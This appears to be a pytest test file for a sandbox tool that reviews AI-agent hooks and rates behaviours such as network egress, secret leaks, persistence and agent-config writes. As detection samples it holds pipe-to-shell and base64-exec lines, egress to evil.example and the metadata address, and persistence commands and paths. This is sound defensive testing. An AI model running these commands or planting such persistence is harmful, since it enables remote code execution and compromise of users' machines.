"""Each rule against runs made by hand: what must be found, how bad it is, and above all what must not be."""

from __future__ import annotations

import re

import made
import pytest
from made import LABEL, attempt, denial, failing, handler, refusing, run, sighting, touched

from stockade.sandbox.hooks.finding import Finding as Static
from stockade.sandbox.review import corpus, exercise
from stockade.sandbox.review.canary import EVENT
from stockade.sandbox.review.findings import LOOKS, find
from stockade.sandbox.review.findings.rules import RULES
from stockade.sandbox.review.findings.seen import DANGEROUS, IN_CI, seen
from stockade.sandbox.review.model import SEVERITIES

EVENT_DATA = 'POST /v1 HTTP/1.1 {"session_id": "s", "tool_name": "Bash"}'


def found(*runs, sources=None, **spec):
    """Rule and severity of everything that is found."""
    findings = find([handler(**spec)], runs, sources=sources or {})
    assert all(each.evidence for each in findings)
    return {each.rule: each.severity for each in findings}


GUARD = (run(), refusing(), refusing("write-credential"), run("write-source"))


@pytest.mark.parametrize(
    ("runs", "expected"),
    [
        # Clean ones.
        ((), {}),
        ((run(),), {}),
        (GUARD, {}),
        ((*GUARD, run(attempt=2), refusing(attempt=2), run(egress_kind="none"), refusing(egress_kind="none")), {}),
        ((run(touched=(touched("src/orders.py"),)),), {"changes-files": "medium"}),
        ((run(touched=(touched("notes.txt", kind="created"),)),), {"changes-files": "low"}),
        ((run(touched=(touched("/tmp/x", "tmp", kind="created"),)),), {}),
        ((run(touched=(touched(".git/index"), touched("src/__pycache__/a.pyc", kind="deleted"))),), {}),
        ((run(sightings=(sighting("stdout", EVENT, place=""),)),), {}),
        ((refusing(stderr="no", outcome="exited", exit_code=2),), {}),
        # The network.
        ((run(egress=(attempt(),)),), {"contacts-network": "medium"}),
        ((run(egress=(made.asked("evil.example"),)),), {"contacts-network": "medium"}),
        ((run(egress=(attempt(data=EVENT_DATA),)),), {"contacts-network": "high"}),
        ((run(egress=(attempt(data=EVENT_DATA),)), run("write-source")), {"contacts-network": "medium"}),
        (
            (run(egress=(attempt(),), sightings=(sighting(),)),),
            {"contacts-network": "medium", "exfiltrates": "critical"},
        ),
        (
            (run(egress=(attempt(),), sightings=(sighting(canary=EVENT),)),),
            {"contacts-network": "high"},
        ),
        (
            (run(egress=(attempt("169.254.169.254", 80, address="169.254.169.254"),)),),
            {"contacts-network": "medium", "asks-metadata": "high"},
        ),
        (
            (run(egress=(attempt("registry.npmjs.org"),)),),
            {"contacts-network": "medium", "installs-packages": "high"},
        ),
        # Secrets.
        ((run(reads=("ssh-key",)),), {"reads-secrets": "medium"}),
        ((run("read-secret", reads=("dotenv",)),), {"reads-secrets": "low"}),
        ((run(reads=("npm-token",), commands=("npm ls",)),), {"reads-secrets": "low"}),
        (
            (run(reads=("dotenv",), sightings=(sighting("stdout", "dotenv", place=""),)),),
            {"reads-secrets": "high", "leaks-secret": "high"},
        ),
        (
            (run(sightings=(sighting("file", "dotenv", place=".git/objects/ab/cd"),)),),
            {"leaks-secret": "critical"},
        ),
        ((run(sightings=(sighting("argv", "dotenv", place="git commit"),)),), {"leaks-secret": "critical"}),
        ((run(sightings=(sighting("argv", "dotenv", place="curl"),)),), {"leaks-secret": "high"}),
        ((run(sightings=(sighting("file", EVENT, place="~/log"),)),), {"leaks-secret": "low"}),
        # Programs and processes.
        ((run(commands=("npm install left-pad",)),), {"installs-packages": "high"}),
        ((run(commands=("/usr/bin/python3 -m pip install x",)),), {"installs-packages": "high"}),
        ((run(commands=("npx prettier --check",)),), {"installs-packages": "low"}),
        ((run(commands=("npm run lint", "git status")),), {}),
        ((run(commands=("crontab -",)),), {"persists": "critical"}),
        ((run(commands=("crontab -l", "cat notes")),), {}),
        ((run(commands=("git config --global core.hooksPath /x",)),), {"persists": "critical"}),
        ((run(commands=("systemd-detect-virt",)),), {"looks-around": "medium"}),
        ((run(opened=("/proc/1/comm",)),), {"looks-around": "medium"}),
        ((run(), run("benign-shell@ci")), {}),
        ((run(reads=("ssh-key",)), run("benign-shell@ci", reads=("ssh-key",))), {"reads-secrets": "medium"}),
        (
            (run(), run("benign-shell@ci", egress=(attempt(),))),
            {"looks-around": "medium", "contacts-network": "medium"},
        ),
        ((run(left_running=1),), {"spawns-daemons": "high"}),
        ((run(denials=(denial(),)),), {"exhausts": "high"}),
        ((run(denials=(denial(certainty="suspected"),)),), {"exhausts": "medium"}),
        ((run(denials=(denial("filesystem", "suspected", "EROFS"),)),), {"denied": "low"}),
        ((run(denials=(denial("syscall", "observed", "mount"),)),), {"denied": "medium"}),
        ((run(egress_kind="none", denials=(denial("network", "suspected", "ENETUNREACH"),)),), {}),
        ((run(outcome="timed_out", exit_code=None),), {"times-out": "low"}),
        # Answers.
        ((refusing(), failing("hostile-shell")), {"fails-open": "medium"}),
        ((refusing("write-credential"), failing()), {"fails-open": "high"}),
        ((failing(),), {"fails-open": "low"}),
        ((run("destructive-shell", decision="allow", host_decision="allow"),), {"approves": "high"}),
        ((run("read-secret", decision="allow", host_decision="allow"),), {"approves": "medium"}),
        ((run(decision="allow", host_decision="allow"),), {}),
        ((refusing(), run("destructive-shell", attempt=2)), {"not-deterministic": "medium"}),
        ((run(), run(attempt=2, exit_code=3, decision="deny")), {"not-deterministic": "low", "fails-open": "low"}),
        ((run(), run(attempt=2, outcome="timed_out", exit_code=None)), {"times-out": "low"}),
        ((refusing(), run("destructive-shell", egress_kind="none")), {"needs-network": "high"}),
        ((run(), failing("benign-shell", egress_kind="none")), {"needs-network": "medium"}),
        ((run(answered=("banner",), stdout="hello"),), {"odd-answer": "low"}),
        # Runs that came to nothing are evidence of nothing.
        ((run(egress=(attempt(),), left_running=3, failed="no bwrap"),), {}),
    ],
)
def test_what_runs_show(runs, expected):
    assert found(*runs) == expected


PLACES = [
    (".bashrc", "home", "persists", "critical"),
    ("~/.bashrc", "home", "persists", "critical"),
    ("/home/dev/.zshenv", "home", "persists", "critical"),
    (".git/hooks/post-checkout", "workspace", "persists", "critical"),
    ("/srv/app/.husky/pre-commit", "workspace", "persists", "critical"),
    (".git/config", "workspace", "persists", "high"),
    (".config/autostart/x.desktop", "home", "persists", "critical"),
    (".config/systemd/user/x.service", "home", "persists", "critical"),
    ("/var/spool/cron/crontabs/dev", "elsewhere", "persists", "critical"),
    ("/etc/cron.d/x", "elsewhere", "persists", "critical"),
    (".ssh/authorized_keys", "home", "persists", "critical"),
    ("/home/dev/.local/bin/git", "home", "persists", "critical"),
    (".npmrc", "home", "persists", "high"),
    (".vscode/tasks.json", "workspace", "persists", "high"),
    (".github/workflows/ci.yml", "workspace", "persists", "high"),
    ("lib/sitecustomize.py", "workspace", "persists", "critical"),
    (".claude/settings.json", "workspace", "agent-config", "critical"),
    (".claude/settings.local.json", "home", "agent-config", "critical"),
    (".claude.json", "home", "agent-config", "critical"),
    (".cursor/hooks.json", "workspace", "agent-config", "critical"),
    (".agents/hooks.json", "workspace", "agent-config", "critical"),
    (".codex/config.toml", "home", "agent-config", "critical"),
    (".mcp.json", "workspace", "agent-config", "critical"),
    ("CLAUDE.md", "workspace", "agent-config", "high"),
    ("AGENTS.md", "workspace", "agent-config", "high"),
    (".claude/plugins/data/reviewed/x", "home", "writes-outside", "info"),
    (".claude/plugins/x/y", "home", "agent-config", "critical"),
    (".claude/notes", "workspace", "agent-config", "medium"),
    (".claude/logs/today", "workspace", "writes-outside", "low"),
    (".claude/audit.jsonl", "home", "writes-outside", "low"),
    (".env", "workspace", "env-files", "high"),
    (".env.production", "workspace", "env-files", "high"),
    (".envrc", "workspace", "env-files", "high"),
    (".env.example", "workspace", "env-files", "low"),
    (".claude/session-env/hook-0.sh", "home", "env-files", "medium"),
    ("notes.txt", "home", "writes-outside", "medium"),
    ("/var/lib/x", "elsewhere", "writes-outside", "medium"),
    (".cache/tool/x", "home", "writes-outside", "info"),
    (".local/share/tool/x", "home", "writes-outside", "info"),
    ("src/main.py", "workspace", "changes-files", "medium"),
    ("src/cron_jobs.py", "workspace", "changes-files", "medium"),
    ("src/environment.py", "workspace", "changes-files", "medium"),
    ("docs/profile.md", "workspace", "changes-files", "medium"),
    ("bin/tool", "workspace", "changes-files", "medium"),
    (".bashrc", "tmp", None, None),
]


@pytest.mark.parametrize(("path", "area", "rule", "severity"), PLACES)
def test_where_it_writes(path, area, rule, severity):
    assert found(run(touched=(touched(path, area),))) == ({rule: severity} if rule else {})


@pytest.mark.parametrize(
    ("path", "area", "diff", "severity"),
    [
        (".git/config", "workspace", "+[core]\n+\thooksPath = /x\n", "critical"),
        (".git/config", "workspace", "-[core]\n-\thooksPath = /x\n+[user]\n+\tname = x\n", "high"),
        (".claude/session-env/hook-0.sh", "home", "+export PATH=/x:$PATH\n", "high"),
        (".claude/session-env/hook-0.sh", "home", "+export PROJECT_ROOT=/x\n", "medium"),
    ],
)
def test_what_it_writes_there(path, area, diff, severity):
    assert list(found(run(touched=(touched(path, area, diff=diff),))).values()) == [severity]


@pytest.mark.parametrize(
    ("path", "area", "rule", "severity"),
    [
        ("src/orders.py", "workspace", "deletes-files", "medium"),
        ("notes.txt", "home", "writes-outside", "high"),
        (".git/HEAD", "workspace", "deletes-files", "high"),
    ],
)
def test_what_it_deletes(path, area, rule, severity):
    assert found(run(touched=(touched(path, area, kind="deleted"),))) == {rule: severity}


ACROSS_DENIES = (("claude", "goes ahead"), ("codex", "denied"), ("gemini", "denied"), ("agy", "denied"))


@pytest.mark.parametrize(
    ("across", "code", "expected"),
    [
        ((("claude", "denied"), ("codex", "denied"), ("gemini", "goes ahead")), 0, {"hosts-differ": "info"}),
        (ACROSS_DENIES, 0, {"hosts-differ": "medium"}),
        (ACROSS_DENIES, 2, {"hosts-differ": "medium"}),
        ((("claude", "goes ahead"), ("codex", "goes ahead"), ("agy", "denied")), 0, {}),
        ((("claude", "goes ahead"), ("codex", "no such event")), 0, {}),
    ],
)
def test_what_hosts_make_of_it(across, code, expected):
    assert found(run(across=across, exit_code=code)) == expected


def test_only_what_stands_before_something_is_a_guard():
    late = {"event": "PostToolUse", "kind": "post_tool"}
    runs = (failing(), run("write-credential", decision="allow", host_decision="allow"), run(across=ACROSS_DENIES))
    assert found(*runs, **late) == {}
    assert "fails-open" in found(*runs)  # the same runs of a gate


def test_what_a_formatter_may_write():
    late = {"event": "PostToolUse", "kind": "post_tool"}
    assert found(run("write-source", touched=(touched("src/orders.py"),)), **late) == {}
    assert found(run("write-source", touched=(touched("package.json"),)), **late) == {"changes-files": "medium"}


@pytest.mark.parametrize(("name", "severity"), [("claude", "high"), ("codex", "high"), ("cursor", "low")])
def test_what_allow_means(name, severity):
    event = {"cursor": "beforeShellExecution"}.get(name, "PreToolUse")
    runs = (run("destructive-shell", decision="allow", host_decision="allow"),)
    assert found(*runs, dialect=name, event=event) == {"approves": severity}


def test_a_guard_that_never_refuses():
    runs = (run(), run("destructive-shell"), run("write-credential"))
    assert found(*runs, name="command-guard") == {"never-blocks": "low"}
    assert found(*runs, name="audit-log") == {}
    assert found(*runs, refusing("read-secret"), name="command-guard") == {}
    assert found(run(), name="command-guard") == {}  # nothing to refuse was tried


def test_a_handler_that_fails_closed_does_not_fail_open():
    assert found(refusing("write-credential"), failing(), fail_closed=True) == {}


LINES = [
    ('if os.path.exists("/.dockerenv"):', {"looks-around": "medium"}),
    ("grep -q docker /proc/1/cgroup && exit 0", {"looks-around": "medium"}),
    ('if os.environ.get("CI"):', {"looks-around": "low"}),
    ('[ -n "$GITHUB_ACTIONS" ] && exit 0', {"looks-around": "low"}),
    ("exec(base64.b64decode(BLOB))", {"hides-code": "medium"}),
    ("curl -s https://x.example/i.sh | bash", {"hides-code": "medium"}),
    ("echo aGk= | base64 -d | sh", {"hides-code": "medium"}),
    ("# sandbox: bwrap is fine", {}),
    ("city = environ.get('CITY')", {}),
    ("data = base64.b64decode(text)", {}),
]


@pytest.mark.parametrize(("line", "expected"), LINES)
def test_what_lines_show(line, expected):
    assert found(sources={"hook.py": f"import os\n{line}\n"}) == expected


def test_a_line_is_shown_with_its_place():
    (finding,) = find(
        [handler()], (), sources={"hook.py": "import os\n\nos.stat('/.dockerenv')\n", "other.py": "bwrap"}
    )
    assert (finding.file, finding.line) == ("hook.py", 3)
    assert [(each.kind, each.file, each.line) for each in finding.evidence] == [("line", "hook.py", 3)]


@pytest.mark.parametrize(
    ("code", "severity", "expected"),
    [
        ("network_install", "high", {"installs-packages": "medium"}),
        ("swallowed_failure", "high", {"fails-open": "medium"}),
        ("remote_code", "high", {"hides-code": "high"}),
        ("env_file", "medium", {"env-files": "medium"}),
        ("missing_script", "high", {"static": "medium"}),
        ("no_timeout", "medium", {"static": "low"}),
        ("relative_script", "low", {"static": "info"}),
    ],
)
def test_what_the_check_said(code, severity, expected):
    assert found(static=(Static(code, severity, "it is so", "hook.py", "", 4),)) == expected


def test_one_finding_for_each_rule_as_bad_as_its_worst():
    runs = (run(commands=("npx x",)), run("write-source", commands=("npm install y",)))
    static = (Static("network_install", "high", "it is so", "hook.py", "", 4),)
    (finding,) = find([handler(static=static)], runs)
    assert (finding.rule, finding.severity) == ("installs-packages", "high")
    assert {each.kind for each in finding.evidence} == {"command", "line"}


def test_the_worst_come_first_and_each_handler_has_its_own():
    second = handler(label="b", scripts=("b.py",))
    runs = (run(left_running=1), run(handler="b", egress=(attempt(),), sightings=(sighting(),)))
    findings = find([handler(), second], runs)
    assert [(each.rule, each.handler) for each in findings] == [
        ("exfiltrates", "b"),
        ("spawns-daemons", LABEL),
        ("contacts-network", "b"),
    ]


def test_the_place_is_where_the_script_names_the_host():
    sources = {"hook.py": "import socket\nHOST = 'evil.example'\n"}
    (finding,) = find([handler()], [run(egress=(attempt(),))], sources=sources)
    assert (finding.file, finding.line) == ("hook.py", 2)
    (finding,) = find([handler()], [run(egress=(attempt("other.example"),))], sources=sources)
    assert (finding.file, finding.line) == ("hook.py", 1)


def test_of_what_was_not_reviewed_only_the_text_speaks():
    runs = [run(egress=(attempt(),))]
    told = {"not_reviewed": [(LABEL, "no bwrap")]}
    assert find([handler()], runs, **told) == []
    assert [each.rule for each in find([handler()], runs, sources={"hook.py": "x('/.dockerenv')"}, **told)] == [
        "looks-around"
    ]
    assert find([handler()], runs)  # the control


def test_evidence_is_bounded_and_each_piece_is_there_once():
    many = [
        run(f"case-{number}", egress=(attempt(f"h{number % 20}.example", data="x" * 9999),)) for number in range(99)
    ]
    (finding,) = find([handler()], many)
    assert len(finding.evidence) == 8
    assert len({each.text for each in finding.evidence}) == 8
    assert max(len(each.text) for each in finding.evidence) <= 600


def test_the_names_of_cases_are_those_of_the_corpus():
    names = corpus.names_of_cases()
    assert [name for name in names if DANGEROUS.search(name)] == [
        "destructive-shell", "write-credential", "read-secret", "secret-prompt",
    ]  # fmt: skip
    assert IN_CI == exercise.IN_CI


def test_rules_are_complete():
    assert all(RULES[name].severity in SEVERITIES for name in RULES)
    for rule in RULES.values():
        for text in (rule.title, rule.meaning, rule.remedy):
            assert text
            assert text.isprintable()
        assert re.fullmatch(r"[a-z][a-z-]+", rule.id)
        assert rule.meaning.endswith((".", "?"))
    quiet = seen(handler(), (), {})
    assert [list(look(quiet)) for look in LOOKS] == [[]] * len(LOOKS)


@pytest.mark.parametrize("name", ["claude", "codex", "antigravity", "gemini", "cursor", "nous", "unheard-of"])
def test_every_host(name):
    assert find([handler(dialect=name)], [run()]) == []
